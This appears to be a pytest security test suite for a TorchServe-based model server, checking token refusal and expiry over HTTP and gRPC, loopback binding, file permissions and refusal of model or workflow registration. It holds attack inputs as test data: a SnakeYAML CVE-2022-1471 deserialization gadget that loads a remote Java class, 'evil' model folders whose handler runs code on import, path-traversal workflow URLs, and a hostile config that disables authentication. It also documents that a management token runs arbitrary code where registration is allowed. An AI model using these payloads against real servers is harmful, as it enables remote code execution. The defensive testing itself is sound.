"""Attacks on the server: what it refuses, and what a management token can still do where models may be registered."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import grpc
import pytest
import requests

from scripts import paths, properties, server
from scripts.archive import MANIFEST
from scripts.client import Client
from scripts.endpoint import Endpoint, Scope
from scripts.errors import ApiError
from tests.e2e.conftest import free_port_range
from tests.e2e.support import listening_addresses
from tests.scripts.web import Web, serve

TOKEN_SECONDS = 3
PATIENCE_SECONDS = 20


def write_code(folder: Path, name: str) -> Path:
    """A model that is a bare folder; its handler leaves a file `ran` there as soon as it is imported."""
    (folder / "MAR-INF").mkdir(parents=True)
    model = {"modelName": name, "modelVersion": "1.0", "handler": f"{name}_handler.py"}
    (folder / MANIFEST).write_text(json.dumps({"runtime": "python", "model": model, "archiverVersion": "0.12.0"}))
    (folder / f"{name}_handler.py").write_text(
        "from pathlib import Path\n"
        f"Path({str(folder / 'ran')!r}).touch()\n"
        "def handle(data, context):\n"
        "    return ['ran'] * len(data or [])\n"
    )
    return folder


@pytest.fixture(scope="module")
def closed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[server.Server]:
    """A server as config.properties has it, without models and with tokens of 3 s, started in a hostile environment."""
    folder = tmp_path_factory.mktemp("closed")
    hostile = folder / "hostile.properties"
    hostile.write_text(
        "disable_token_authorization=true\nenable_model_api=true\ninference_address=http://0.0.0.0:8080\n"
    )
    (folder / "store").mkdir()
    environment = {
        "TS_CONFIG_FILE": str(hostile),
        "TS_DISABLE_TOKEN_AUTHORIZATION": "true",
        "TS_ENABLE_MODEL_API": "true",
        "TS_INFERENCE_ADDRESS": "http://0.0.0.0:8080",
        "TS_ALLOWED_URLS": "file://.*",
    }
    changes = {"token_expiration_min": str(TOKEN_SECONDS / 60)}
    with pytest.MonkeyPatch.context() as patch:
        for name, value in environment.items():
            patch.setenv(name, value)
        started = server.start(folder / "run", folder / "store", paths.SERVER_CONFIG, free_port_range(), changes)
    try:
        deadline = time.monotonic() + PATIENCE_SECONDS
        while not answers(started.endpoint):
            assert time.monotonic() < deadline, (started.logs / "console.log").read_text()
            time.sleep(0.1)
        yield started
    finally:
        started.stop()


def answers(endpoint: Endpoint) -> bool:
    try:
        return requests.get(f"{endpoint.metrics}/metrics").ok and endpoint.key_file.exists()
    except requests.ConnectionError:
        return False


def fresh(endpoint: Endpoint, scope: Scope) -> str:
    """Have a token made that does not expire before it is used."""
    endpoint.replace_token(scope)
    return endpoint.token(scope)


def ask(endpoint: Endpoint, scope: Scope, token: str, method: str = "GET", path: str = "") -> requests.Response:
    """Ask an API for what needs no model: the management API for its list, the inference API for one it has not."""
    base, default = (
        (endpoint.management, "/models") if scope == "management" else (endpoint.inference, "/predictions/nobody")
    )
    return requests.request(method, base + (path or default), headers={"Authorization": f"Bearer {token}"})


def grpc_status(endpoint: Endpoint, scope: Scope, authorization: str | None, url: Path | str = "") -> grpc.StatusCode:
    """Ask the gRPC form of an API for what needs no model, or to register a model; returns the status it ends with."""
    service = "inference.InferenceAPIsService" if scope == "inference" else "management.ManagementAPIsService"
    method = "RegisterModel" if url else "Predictions" if scope == "inference" else "ListModels"
    port = properties.read(endpoint.folder / paths.SERVER_CONFIG.name)[f"grpc_{scope}_port"]
    # A field of a protobuf message: its number and wire type 2, its length, its bytes.
    text = str(url or "nobody").encode()
    field = {"RegisterModel": 9, "Predictions": 1}.get(method)  # url, model_name
    message = bytes([field << 3 | 2, len(text)]) + text if field else b""
    metadata = (("authorization", authorization),) if authorization else ()
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        call: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(
            f"/org.pytorch.serve.grpc.{service}/{method}"
        )
        try:
            call(message, metadata=metadata, timeout=PATIENCE_SECONDS, wait_for_ready=True)
        except grpc.RpcError as error:
            status: grpc.StatusCode = error.code()
            return status
    return grpc.StatusCode.OK


# Past the tokens: what there is to hear of a model that there is not, and an empty list.
OPENED = {"inference": 404, "management": 200}
ALLOWED = {"inference": grpc.StatusCode.INTERNAL, "management": grpc.StatusCode.OK}


@pytest.mark.parametrize("scope", ["inference", "management"])
@pytest.mark.parametrize("authorization", [None, "Bearer", "Bearer wrong", "Basic eDp5"])
def test_grpc_refuses_what_http_refuses(closed: server.Server, scope: Scope, authorization: str | None) -> None:
    assert grpc_status(closed.endpoint, scope, authorization) == grpc.StatusCode.PERMISSION_DENIED


@pytest.mark.parametrize(("scope", "other"), [("inference", "management"), ("management", "inference")])
def test_grpc_has_a_token_an_api_too(closed: server.Server, scope: Scope, other: Scope) -> None:
    token = f"Bearer {fresh(closed.endpoint, scope)}"
    assert grpc_status(closed.endpoint, scope, token) == ALLOWED[scope]
    assert grpc_status(closed.endpoint, other, token) == grpc.StatusCode.PERMISSION_DENIED


def test_models_are_fixed_over_grpc_too(closed: server.Server, tmp_path: Path) -> None:
    folder = write_code(tmp_path / "evil", "evil")
    for url in ("any.mar", folder):
        token = f"Bearer {fresh(closed.endpoint, 'management')}"
        assert grpc_status(closed.endpoint, "management", token, url) == grpc.StatusCode.PERMISSION_DENIED
    assert Client(closed.endpoint, fresh(closed.endpoint, "management")).models() == {}
    assert not (folder / "ran").exists()


@pytest.fixture(scope="module")
def expired(closed: server.Server) -> dict[Scope, str]:
    """A token an API, seen to open it and then kept until it had expired.

    token_expiration_min takes fractions of a minute, so that this waits 3 s.
    """
    endpoint = closed.endpoint
    tokens: dict[Scope, str] = {"inference": fresh(endpoint, "inference"), "management": fresh(endpoint, "management")}
    for scope, token in tokens.items():
        assert ask(endpoint, scope, token).status_code == OPENED[scope]
        assert grpc_status(endpoint, scope, f"Bearer {token}") == ALLOWED[scope]
    keys = json.loads(endpoint.key_file.read_text())
    last = max(datetime.fromisoformat(keys[scope]["expiration time"]) for scope in tokens)
    valid_for = (last - datetime.now(UTC)).total_seconds()
    assert 0 < valid_for <= TOKEN_SECONDS
    time.sleep(valid_for + 0.1)
    return tokens


@pytest.mark.parametrize("scope", ["inference", "management"])
def test_an_expired_token_is_refused(closed: server.Server, expired: dict[Scope, str], scope: Scope) -> None:
    answer = ask(closed.endpoint, scope, expired[scope])
    assert (answer.status_code, answer.json()["type"]) == (400, "InvalidKeyException")
    assert ask(closed.endpoint, scope, fresh(closed.endpoint, scope)).status_code == OPENED[scope]


@pytest.mark.parametrize("scope", ["inference", "management"])
def test_an_expired_token_is_refused_over_grpc(closed: server.Server, expired: dict[Scope, str], scope: Scope) -> None:
    assert grpc_status(closed.endpoint, scope, f"Bearer {expired[scope]}") == grpc.StatusCode.PERMISSION_DENIED


def test_the_environment_is_no_configuration(closed: server.Server) -> None:
    for scope in ("inference", "management"):
        assert ask(closed.endpoint, scope, "none").status_code == 400
    addresses = listening_addresses(closed.pid)
    assert addresses
    assert all(address.is_loopback for address in addresses), addresses


def test_what_the_server_writes_is_its_owners_alone(closed: server.Server) -> None:
    written = [closed.endpoint.key_file, closed.temporary, *closed.logs.glob("*_log.log")]
    assert len(written) > 3
    assert {path.name: oct(path.stat().st_mode & 0o077) for path in written} == dict.fromkeys(
        (path.name for path in written), "0o0"
    )


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/models?url={}"),
        ("POST", "/models?url={}&synchronous=true&initial_workers=1"),
        ("DELETE", "/models/any"),
    ],
)
def test_models_are_fixed_while_the_server_runs(closed: server.Server, tmp_path: Path, method: str, path: str) -> None:
    """Not by the archive's name, nor by a bare folder, whose code would run."""
    folder = write_code(tmp_path / "evil", "evil")
    for url in ("any.mar", folder):
        answer = ask(closed.endpoint, "management", fresh(closed.endpoint, "management"), method, path.format(url))
        assert (answer.status_code, answer.json()["type"]) == (405, "MethodNotAllowedException")
    assert Client(closed.endpoint, fresh(closed.endpoint, "management")).models() == {}
    assert not (folder / "ran").exists()


def test_the_refusal_says_what_to_do(closed: server.Server) -> None:
    with pytest.raises(ApiError, match="takes no models while it runs: densenet stop, then densenet serve --model-api"):
        Client(closed.endpoint, fresh(closed.endpoint, "management")).register("any.mar")


def test_a_workflow_brings_no_code_either(closed: server.Server, tmp_path: Path) -> None:
    """TorchServe does not ask enable_model_api here, but takes workflows from the model store alone."""
    folder = write_code(tmp_path / "evil", "evil")
    for url in (folder, f"file://{folder}", "http://127.0.0.1:1/evil.war", "../evil.war"):
        token = fresh(closed.endpoint, "management")
        answer = ask(closed.endpoint, "management", token, "POST", f"/workflows?url={url}")
        assert answer.status_code in (400, 404), answer.text
    assert not (folder / "ran").exists()


@pytest.fixture
def web() -> Iterator[Web]:
    with serve() as running:
        yield running


def test_a_models_settings_load_no_java_class(client: Client, web: Web, tmp_path: Path) -> None:
    """CVE-2022-1471: SnakeYAML before 2.0 would fetch code from this address and run it."""
    folder = write_code(tmp_path / "yaml", "yaml")
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["model"]["configFile"] = "model-config.yaml"
    (folder / MANIFEST).write_text(json.dumps(manifest))
    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{web.url}/"]]]]'
    (folder / "model-config.yaml").write_text(f"minWorkers: {gadget}\n")
    try:
        with pytest.raises(ApiError):
            client.register(str(folder))
        assert web.asked == []
    finally:
        if client.versions("yaml"):
            client.unregister("yaml")


def test_an_archive_installs_no_packages(client: Client, tmp_path: Path) -> None:
    """Where packages are installed, one that is nowhere makes the registration fail."""
    folder = write_code(tmp_path / "greedy", "greedy")
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["model"]["requirementsFile"] = "requirements.txt"
    (folder / MANIFEST).write_text(json.dumps(manifest))
    (folder / "requirements.txt").write_text("/nowhere/at-all\n")
    try:
        client.register(str(folder), initial_workers=0)
        assert [model["workers"] for model in client.versions("greedy")] == [[]]
    finally:
        client.unregister("greedy")


@pytest.mark.parametrize("over", ["http", "grpc"])
def test_where_models_may_be_registered_a_management_token_runs_any_code(
    client: Client, running: server.Server, tmp_path: Path, over: str
) -> None:
    """What remains with --model-api: allowed_urls does not apply to a bare folder. Should this fail, TorchServe's
    behaviour has changed, and docs/security.md has to.
    """
    name = f"folder_{over}"
    folder = write_code(tmp_path / name, name)
    try:
        if over == "http":
            client.register(str(folder))
        else:
            token = f"Bearer {running.endpoint.token('management')}"
            assert grpc_status(running.endpoint, "management", token, folder) == grpc.StatusCode.OK
        deadline = time.monotonic() + PATIENCE_SECONDS  # over gRPC the call returns before a worker has started
        while not (folder / "ran").exists():
            assert time.monotonic() < deadline
            time.sleep(0.1)
    finally:
        client.unregister(name)
